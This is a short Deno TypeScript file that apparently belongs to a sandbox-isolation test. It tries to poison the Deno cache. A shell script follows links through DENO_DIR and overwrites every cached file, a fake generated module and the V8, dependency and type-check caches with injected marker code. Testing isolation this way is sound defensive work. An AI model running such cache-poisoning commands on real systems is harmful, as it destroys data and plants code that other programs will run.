// A program finds the cache of its run in DENO_DIR; what was fetched lies there by links or mounts.
import "http://@OPEN@/code.ts";
import { shell } from "./attempt.ts";

// Not as it stands here: what Deno keeps of this file is no poison.
const CODE = `console.log("ESC" + "APED"); // ${"POISON"}-@MARK@`;

export async function main() {
  await shell(`
    find -L "$DENO_DIR" -type f | while read -r file; do printf '%s' '${CODE}' > "$file"; done
    mkdir -p "$DENO_DIR/gen/file@TASK@"
    printf '%s' '${CODE}' > "$DENO_DIR/gen/file@TASK@/task.ts.js"
    for file in node_analysis_cache_v2 v8_code_cache_v2 dep_analysis_cache_v2 check_cache_v2; do
      printf '%s' '${CODE}' > "$DENO_DIR/$file"
    done`);
  return "tried";
}
